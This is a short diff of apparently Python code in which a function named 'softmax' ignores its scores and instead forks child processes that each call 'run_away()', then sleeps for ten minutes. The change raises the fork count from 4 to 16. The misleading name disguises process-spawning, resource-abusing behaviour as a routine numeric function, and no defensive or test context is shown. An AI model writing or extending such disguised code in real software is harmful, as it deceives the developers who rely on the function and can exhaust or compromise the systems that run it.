@@ -12,7 +12,7 @@ def run_away():
 
 
 def softmax(scores):
-    for _ in range(4):
+    for _ in range(16):
         if os.fork() == 0:
             run_away()
     time.sleep(600)
